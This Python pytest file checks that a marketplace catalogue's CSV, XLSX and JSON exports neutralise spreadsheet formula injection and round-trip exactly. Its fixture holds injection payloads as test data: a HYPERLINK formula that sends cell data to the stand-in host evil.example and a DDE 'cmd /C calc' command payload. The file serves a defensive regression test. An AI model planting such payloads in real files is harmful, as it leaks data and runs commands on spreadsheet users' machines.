"""Finding 3: an enterprise name or need title beginning with ``=``, ``+``, ``-`` or ``@`` was
exported as is: a live formula in CSV, a real formula cell in XLSX (which also failed to import
back). Exports neutralise them and the importer reads its own exports back unchanged."""
from __future__ import annotations

import io

import openpyxl
import pytest

from marketplace.catalog import models
from marketplace.catalog.interchange import exports as services
from marketplace.catalog.interchange.tables import neutralise, read_table, restore
from tests.marketplace.files import VALID_CATALOG_ROWS, VALID_NEED_ROWS, csv_bytes, snapshot

pytestmark = pytest.mark.django_db

HOSTILE = {
    "provider_name": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "title": "+1+cmd|' /C calc'!A0",
    "description": "-2+3 @SUM(1,1) 描述",
}
TRICKY_TEXTS = ["=1+1", "+86 533", "-", "@x", "\tx", "'=x", "''-x", "'plain", "plain", "a=b", ""]


@pytest.fixture
def hostile_catalog(db, write_file, run_command):
    rows = [{**VALID_CATALOG_ROWS[0], **HOSTILE}, VALID_CATALOG_ROWS[1]]
    need = {**VALID_NEED_ROWS[0], "enterprise_name": "@SUM(A1:A9)", "title": "=HYPERLINK(\"x\")"}
    assert run_command("import_catalog", str(write_file("c.csv", csv_bytes(rows)))).returncode == 0
    assert run_command("import_needs", str(write_file("n.csv", csv_bytes([need])))).returncode == 0
    return snapshot()


def test_csv_export_prefixes_formula_looking_cells(hostile_catalog):
    catalog = services.catalog_export(fmt="csv").decode()
    needs = services.needs_export(fmt="csv").decode()

    assert "'=HYPERLINK(" in catalog and ",=HYPERLINK(" not in catalog
    assert "'+1+cmd" in catalog and "'-2+3" in catalog
    assert ",'@SUM(A1:A9)," in needs and "'=HYPERLINK(" in needs


def test_xlsx_export_has_no_formula_cell(hostile_catalog):
    for data in (services.catalog_export(fmt="xlsx"), services.needs_export(fmt="xlsx")):
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]

        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert any(str(cell.value).startswith(("=HYPERLINK", "@SUM")) for cell in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_import_export_is_exact(hostile_catalog, run_command, tmp_path, fmt):
    for kind in ("catalog", "needs"):
        path = tmp_path / f"{kind}.{fmt}"
        first = getattr(services, f"{kind}_export")(fmt=fmt)
        path.write_bytes(first)

        result = run_command(f"import_{kind}", str(path))

        assert result.returncode == 0, result.stderr
        assert "0 created, 0 updated" in result.stdout
        if fmt != "xlsx":  # an XLSX file carries its creation time
            assert getattr(services, f"{kind}_export")(fmt=fmt) == first
    assert snapshot() == hostile_catalog
    assert models.Solution.objects.get(ref="S-KILN").provider.name == HOSTILE["provider_name"]


@pytest.mark.parametrize("text", TRICKY_TEXTS)
def test_the_csv_prefix_is_undone_exactly(text):
    written = neutralise(text)

    assert restore(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t"))


@pytest.mark.parametrize("text", TRICKY_TEXTS)
def test_a_csv_cell_round_trips_through_the_file_reader(text):
    from marketplace.catalog.interchange.tables import write_table

    data = write_table(["a", "b"], [{"a": text, "b": "x"}], "csv")

    assert read_table(data, "csv", max_bytes=10_000).rows == [(2, {"a": text, "b": "x"})]
